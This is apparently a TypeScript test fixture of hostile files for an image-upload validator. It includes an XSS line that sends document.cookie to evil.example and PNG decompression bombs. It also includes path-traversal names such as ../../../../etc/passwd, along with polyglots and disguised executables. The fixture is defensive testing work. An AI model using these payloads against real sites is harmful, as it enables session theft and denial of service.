import { Buffer } from "node:buffer";
import { deflateSync } from "node:zlib";
import { samplePictures } from "./pictures.ts";
import { pngChunk } from "./png_chunk.ts";

/** A file that somebody sends in the place of a picture. */
export interface HostileFile {
  /** What it is. */
  name: string;
  /** What its sender calls it. */
  fileName: string;
  /** What its sender says that it is. */
  mediaType: string;
  bytes: Buffer;
  /** What whoever sent it is told, as it is refused; absent for one that is a picture after all. */
  refused?: RegExp;
  /** What is kept of one that is a picture: these very bytes. */
  kept?: { format: "png" | "jpeg" | "webp"; bytes: Buffer };
  /** Whether only what a caller hands in is refused for it: providers may deliver such. */
  ofCallersOnly?: true;
}

const signature = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");

function header(width: number, height: number): Buffer {
  const content = Buffer.from("00000000000000000800000000", "hex");
  content.writeUInt32BE(width);
  content.writeUInt32BE(height, 4);
  return pngChunk("IHDR", content);
}

/** A grey PNG, with chunks of one's own before its pixels. */
function png(width: number, height: number, ...before: Buffer[]): Buffer {
  const rows = Buffer.alloc((width + 1) * height, 90);
  // Each begins with how it is filtered.
  for (let row = 0; row < height; row++) rows[row * (width + 1)] = 0;
  const pixels = deflateSync(rows);
  return Buffer.concat([
    ...[signature, header(width, height), ...before],
    ...[pngChunk("IDAT", pixels), pngChunk("IEND", Buffer.alloc(0))],
  ]);
}

const side = 64;
const plain = png(side, side);
/** As providers' answers are decoded while they arrive from some length on. */
const long = png(side, side, pngChunk("caBX", Buffer.alloc(40_000, 7)));
const script = "<script>fetch('//evil.example/?' + document.cookie)</script>";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">${script}</svg>`;
const zip = Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(200, 1)]);
const notOurs = /not those of a PNG, JPEG or WebP/;

function declares(format: "jpeg" | "webp", at: number): Buffer {
  const sample = samplePictures.find((each) => each.format === format);
  const bytes = Buffer.from(sample?.bytes ?? []);
  const frame = format === "jpeg" ? bytes.indexOf(Buffer.from([0xff, 0xc0])) + 5 : at;
  if (format === "jpeg") {
    bytes.writeUInt16BE(30_000, frame);
    bytes.writeUInt16BE(30_000, frame + 2);
  } else {
    bytes.writeUInt16LE(16_383, frame);
    bytes.writeUInt16LE(16_383, frame + 2);
  }
  return bytes;
}

const kept = (bytes: Buffer) => ({ kept: { format: "png" as const, bytes } });

/** One list for every way in: drawn, handed in, or fetched. */
export const hostileFiles: HostileFile[] = [
  ...[
    { name: "a page", fileName: "kite.html", bytes: `<!doctype html><body>${script}</body>` },
    { name: "an SVG with a script", fileName: "kite.svg", bytes: svg },
    { name: "an SVG behind a mark of its encoding", fileName: "a.svg", bytes: `\ufeff\n${svg}` },
    { name: "a program", fileName: "kite.png.exe", bytes: "MZ\x90\x00".padEnd(400, "\x00") },
    { name: "a document", fileName: "kite.pdf", bytes: "%PDF-1.7\n".padEnd(400) },
    { name: "a GIF", fileName: "kite.png", bytes: "GIF89a\x40\x00\x40\x00".padEnd(400, "\x00") },
    { name: "an error in JSON", fileName: "kite.png", bytes: `{"error": "${"x".repeat(300)}"}` },
    { name: "a page as long as a picture", fileName: "kite.png", bytes: script.repeat(800) },
  ].map(({ bytes, ...rest }) => ({
    ...rest,
    mediaType: "image/png",
    bytes: Buffer.from(bytes),
    refused: notOurs,
  })),
  {
    name: "an archive before a picture",
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: Buffer.concat([zip, plain]),
    refused: notOurs,
  },
  {
    name: "a PNG that declares 30,000 x 30,000 pixels",
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: Buffer.concat([signature, header(30_000, 30_000), plain.subarray(33)]),
    refused: /30000x30000/,
  },
  {
    name: "a JPEG that declares 30,000 x 30,000 pixels",
    fileName: "kite.jpg",
    mediaType: "image/jpeg",
    bytes: declares("jpeg", 0),
    refused: /30000x30000/,
  },
  {
    name: "a WebP that declares 16,383 x 16,383 pixels",
    fileName: "kite.webp",
    mediaType: "image/webp",
    bytes: declares("webp", 26),
    refused: /16383x16383/,
  },
  {
    name: "a PNG of no pixels",
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: Buffer.concat([signature, header(0, 64), plain.subarray(33)]),
    refused: /0x64/,
  },
  {
    name: "a picture of one pixel",
    fileName: "dot.png",
    mediaType: "image/png",
    bytes: png(1, 1),
    refused: /1x1 pixels/,
  },
  {
    name: "a PNG whose pixels are a bomb",
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: Buffer.concat([
      ...[signature, header(9_000, 9_000), pngChunk("IDAT", deflateSync(Buffer.alloc(30_000_000)))],
      pngChunk("IEND", Buffer.alloc(0)),
    ]),
    refused: /9000x9000/,
    ofCallersOnly: true,
  },
  {
    name: "a text that unpacks to 30 MB",
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: png(
      ...[side, side] as const,
      pngChunk(
        "zTXt",
        Buffer.concat([Buffer.from("a\0\0"), deflateSync(Buffer.alloc(30_000_000))]),
      ),
    ),
    ...kept(plain),
  },
  {
    name: "a script in a text",
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: png(side, side, pngChunk("tEXt", Buffer.from(`Comment\0${script}`))),
    ...kept(plain),
  },
  {
    name: "an archive behind a picture",
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: Buffer.concat([plain, zip]),
    ...kept(plain),
  },
  {
    name: "a page behind a long picture",
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: Buffer.concat([long, Buffer.from(svg.repeat(50))]),
    ...kept(long),
  },
  ...[
    { name: "a path that leads out", fileName: "../../../../etc/passwd" },
    { name: "a path of Windows", fileName: "..\\..\\boot.ini" },
    { name: "a device of Windows", fileName: "CON.png" },
    { name: "a name that ends elsewhere", fileName: "kite.png\0.html" },
    { name: "a name read from the right", fileName: "kite\u202egnp.exe" },
    { name: "a hidden file", fileName: ".htaccess" },
    { name: "a name that is long", fileName: `${"k".repeat(2_000)}.png` },
    { name: "a name that is an address", fileName: "https://evil.example/?a=b#c%2f.png" },
  ].map((each) => ({ ...each, mediaType: "image/png", bytes: plain, ...kept(plain) })),
  {
    name: "a PNG that is called a JPEG, and a page",
    fileName: "kite.jpg",
    mediaType: "text/html",
    bytes: plain,
    ...kept(plain),
  },
  ...Array.from({ length: 10 }, (_, tenth) => ({
    name: `a picture that ends after ${tenth} tenths`,
    fileName: "kite.png",
    mediaType: "image/png",
    bytes: long.subarray(0, Math.floor(long.length * tenth / 10)),
    refused: tenth === 0 ? /no bytes/ : /ends too early/,
  })),
];
